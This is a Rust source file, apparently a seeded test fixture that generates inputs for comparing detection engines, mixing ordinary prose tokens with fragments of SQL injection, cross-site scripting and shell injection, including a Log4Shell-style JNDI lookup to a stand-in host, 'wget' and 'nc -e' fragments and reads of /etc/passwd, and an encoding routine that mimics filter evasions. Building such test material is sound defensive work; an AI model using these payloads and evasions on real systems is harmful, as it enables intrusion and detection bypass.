//! Values to compare engines with: prose, pieces of attacks, and what evasions do to them. All of it is ours, made
//! from a seed, so that a run can be repeated.

/// A source of numbers: `SplitMix64`, enough to choose pieces.
pub struct Chance(u64);

impl Chance {
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }

    pub fn number(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ mixed >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ mixed >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ mixed >> 31
    }

    pub fn below(&mut self, most: usize) -> usize {
        (self.number() % most.max(1) as u64) as usize
    }

    pub fn one_in(&mut self, many: usize) -> bool {
        self.below(many) == 0
    }

    pub fn of<'a, T>(&mut self, all: &'a [T]) -> &'a T {
        &all[self.below(all.len())]
    }
}

/// Pieces of each kind, two spaces between them.
const SQL: &str = "select  union  all  from  where  or  and  not  like  between  having  group by  order by  \
    insert into  update  delete  drop table  sleep(5)  benchmark(1,1)  concat(  char(65)  0x41424344  \
    information_schema.tables  users  password  1=1  1  2  'a'='a  '  \"  `  ;  --  #  /*  */  /*!50000  \
    (  )  ,  =  <>  !=  ||  &&  @@version  null  is  case when  end  limit 1  1e1  1.  x'41'  n'a'  ~  ^  \
    div  xor  regexp  sounds like  waitfor delay '0:0:5'  exec xp_cmdshell  $$a$$  b'01'  %27  \\'  {d  \
    collate  into outfile";
const SCRIPT: &str = "<script>  </script>  <img src=x onerror=  alert(1)  <svg/onload=  >  <  \"  '  javascript:  \
    jav&#x09;ascript:  data:text/html,  <a href=  style=  expression(  onclick=  <iframe  <!--  -->  \
    <![CDATA[  ]]>  <?xml  <!doctype  document.cookie  eval(  window[  ]  (  )  `  =  /  vbscript:  \
    <math  <x   xlink:href=  formaction=  &lt;script&gt;  \\u003cscript\\u003e  {{7*7}}  <isindex  \
    <base href=  srcdoc=  by=  folder=";
const SHELL: &str = ";  |  &&  `  $(  )  cat  /etc/passwd  ../  ..\\  ls -la  wget http://a.example/x  curl  bash -c  sh  \
    id  whoami  nc -e  python -c  perl -e  powershell  cmd.exe /c  dir  type  /bin/  ${IFS}  $@  c'a't  \
    c\\at  /???/??t  <  >  >>  {cat,/etc/hosts}  ping -c 1  echo  env  $HOME  ~  php://input  file:///  \
    phar://  <?php  system(  base64_decode(  $_GET[  ]  O:8:\"stdClass\":0:{}  \
    ${jndi:ldap://a.example/x}  ${  }  #{  %{  java.lang.Runtime  getClass()  __proto__  constructor  \
    process.env  require('fs')  http://127.0.0.1/  .htaccess  web.config  .git/config  boot.ini  \
    \r\nSet-Cookie: a=b  %0d%0aX: y  (objectClass=*)  )(uid=*";
const PROSE: &str = "the  a  order  please  don't  it's  hello  Ann  O'Neil  and  or  not  select  from  union  like  \
    where  shoes  price  50%  C#  R&D  \"quoted\"  (see below)  e.g.  1 or 2  3-4  2026-11-24  10:30  \
    a@b.example  https://shop.example.com/a?b=c  für  schön  Straße  l'été  d'où  garçon  «mot»  naïve  \
    „Wort“  –  …  !  ?  ;  ,  .  group by  having friends  order by phone  drop  table  update  set  \
    into  values  exec  script  image  on click  if (a < b) { return; }  let x = y;  a => b  x || y  i++  \
    <b>  </b>  &amp;  $5  5 €  #1  100 000";

const KINDS: [&str; 4] = [SQL, SCRIPT, SHELL, PROSE];

/// A value: a few pieces of one kind, now and then changed as evasions do.
pub fn value(chance: &mut Chance) -> Vec<u8> {
    let mut kind = *chance.of(&KINDS);
    let mut out = Vec::new();
    for n in 0..=chance.below(7) {
        if n > 0 && !chance.one_in(3) {
            out.extend_from_slice(
                chance.of(&[" ", " ", " ", "+", "\t", "/**/", "\n", "%20", "\u{a0}", "\0", "  "]).as_bytes(),
            );
        }
        if chance.one_in(8) {
            kind = *chance.of(&KINDS);
        }
        let pieces = kind.split("  ");
        let piece = chance.below(pieces.clone().count());
        out.extend(pieces.skip(piece).take(1).flat_map(str::bytes));
    }
    if chance.one_in(3) { evaded(out, chance) } else { out }
}

/// One way to write a value otherwise.
fn evaded(value: Vec<u8>, chance: &mut Chance) -> Vec<u8> {
    let one_in = 1 + chance.below(4);
    let mut out = Vec::with_capacity(value.len() * 2);
    let way = chance.below(11);
    for byte in value {
        if !chance.one_in(one_in) {
            out.push(byte);
            continue;
        }
        match way {
            0 => out.extend(format!("%{byte:02x}").bytes()),
            1 => out.extend(format!("%u00{byte:02X}").bytes()),
            2 => out.extend(format!("&#x{byte:x};").bytes()),
            3 => out.extend(format!("&#{byte}").bytes()),
            4 => out.extend([byte, 0]),
            // Longer than need be, and full width.
            5 => out.extend([0xc0 | byte >> 6, 0x80 | byte & 0x3f]),
            6 => out.extend(format!("%uff{:02x}", byte.wrapping_sub(0x20)).bytes()),
            7 => out.extend(format!("\\x{byte:02x}").bytes()),
            8 => out.extend([byte.to_ascii_uppercase(), b'\\']),
            9 => out.extend([b'/', b'*', b'*', b'/', byte]),
            _ => out.push(byte ^ (chance.number() as u8)),
        }
    }
    out
}
